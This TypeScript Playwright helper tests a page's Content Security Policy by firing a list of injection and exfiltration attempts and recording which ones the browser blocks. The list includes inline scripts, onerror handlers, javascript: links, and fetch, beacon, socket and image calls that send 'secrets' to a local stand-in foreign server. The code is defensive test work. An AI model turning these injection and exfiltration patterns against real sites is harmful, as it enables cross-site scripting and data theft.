import { createServer } from 'node:http';
import type { Page } from 'playwright-core';
import { type RunningServer, serve } from './http';

/** What a browser has refused for the page's policy: the directive, and what was to be loaded. */
export interface Violation {
  readonly directive: string;
  readonly blocked: string;
}

declare global {
  interface Window {
    reportViolation?: (violation: Violation) => Promise<void>;
    /** Set by what must never run. */
    taken?: boolean;
  }
}

/** From now on, on every page that is opened: what its policy refuses. Frames of others have policies of their own. */
export async function watchPolicy(page: Page): Promise<Violation[]> {
  const violations: Violation[] = [];
  await page.exposeFunction('reportViolation', (violation: Violation) => violations.push(violation));
  await page.addInitScript(() => {
    if (window.top !== window) return;
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective: directive, blockedURI: blocked }) => void window.reportViolation?.({ directive, blocked }));
  });
  return violations;
}

/** A site of somebody else's that would give an attack what it asks for, and knows what it was asked. */
export interface ForeignSite {
  readonly server: RunningServer;
  readonly asked: string[];
  /** Its own page, at `/`. */
  page: string;
}

export async function foreignSite(): Promise<ForeignSite> {
  const site = { asked: [] as string[], page: '<!doctype html><title>Elsewhere</title>' };
  const http = createServer((request, response) => {
    const path = request.url ?? '/';
    if (path !== '/') site.asked.push(`${request.method} ${path}`);
    const type = path.endsWith('.js') ? 'text/javascript' : path.endsWith('.css') ? 'text/css' : 'text/html';
    response.writeHead(200, { 'content-type': type, 'access-control-allow-origin': '*' }).end(path.endsWith('.js') ? 'window.taken = true' : path === '/' ? site.page : '');
  });
  http.on('upgrade', (request, socket) => {
    site.asked.push(`socket ${request.url}`);
    socket.destroy();
  });
  return Object.assign(site, { server: await serve(http) });
}

/** What somebody who can write into the page would try, each with the directive that stands against it. */
export const ATTACKS: readonly { readonly what: string; readonly directive: string; readonly run: (foreign: string) => void }[] = [
  { what: 'an inline script', directive: 'script-src-elem', run: () => { document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.taken = true' })); } },
  {
    what: 'an inline handler',
    directive: 'script-src-attr',
    run: () => {
      const button = document.createElement('button');
      button.setAttribute('onclick', 'window.taken = true');
      document.body.append(button);
      button.click();
    },
  },
  {
    what: 'a handler in inserted HTML',
    directive: 'script-src-attr',
    run: () => document.body.insertAdjacentHTML('beforeend', '<img src="/no-such.png" onerror="window.taken = true">'),
  },
  {
    what: 'a javascript: address',
    directive: 'script-src-elem',
    run: () => {
      const link = document.createElement('a');
      // oxlint-disable-next-line no-script-url
      link.href = 'javascript:void(window.taken = true)';
      document.body.append(link);
      link.click();
    },
  },
  {
    what: 'code made of text',
    directive: 'script-src',
    run: () => {
      // oxlint-disable-next-line typescript/no-implied-eval
      setTimeout('window.taken = true');
    },
  },
  { what: "another site's script", directive: 'script-src-elem', run: (foreign) => { document.body.append(Object.assign(document.createElement('script'), { src: `${foreign}/script.js` })); } },
  { what: 'a script in an address', directive: 'script-src-elem', run: () => { document.body.append(Object.assign(document.createElement('script'), { src: 'data:text/javascript,window.taken=true' })); } },
  { what: "another site's frame", directive: 'frame-src', run: (foreign) => { document.body.append(Object.assign(document.createElement('iframe'), { src: `${foreign}/frame` })); } },
  {
    what: "a form to another site",
    directive: 'form-action',
    run: (foreign) => {
      const form = Object.assign(document.createElement('form'), { action: `${foreign}/form`, method: 'post' });
      document.body.append(form);
      form.submit();
    },
  },
  { what: 'a call to another site', directive: 'connect-src', run: (foreign) => void fetch(`${foreign}/fetch`, { method: 'POST', body: 'secrets' }).catch(() => undefined) },
  { what: 'a beacon to another site', directive: 'connect-src', run: (foreign) => { navigator.sendBeacon(`${foreign}/beacon`, 'secrets'); } },
  {
    what: 'a socket to another site',
    directive: 'connect-src',
    run: (foreign) => {
      try {
        new WebSocket(`${foreign.replace('http', 'ws')}/socket`);
      } catch {
        // It may also throw.
      }
    },
  },
  { what: "another site's picture, with what it is told in the address", directive: 'img-src', run: (foreign) => { document.body.append(Object.assign(document.createElement('img'), { src: `${foreign}/picture?secrets` })); } },
  { what: "another site's style sheet", directive: 'style-src-elem', run: (foreign) => { document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${foreign}/style.css` })); } },
  { what: 'an inline style sheet', directive: 'style-src-elem', run: () => { document.head.append(Object.assign(document.createElement('style'), { textContent: 'body { display: none }' })); } },
  { what: 'another base for every link', directive: 'base-uri', run: (foreign) => { document.head.append(Object.assign(document.createElement('base'), { href: `${foreign}/` })); } },
  {
    what: 'a worker made of text',
    directive: 'worker-src',
    run: () => {
      try {
        new Worker(URL.createObjectURL(new Blob(['fetch("/taken")'], { type: 'text/javascript' })));
      } catch {
        // It may also throw.
      }
    },
  },
  { what: "another site's object", directive: 'object-src', run: (foreign) => { document.body.append(Object.assign(document.createElement('object'), { data: `${foreign}/object` })); } },
];
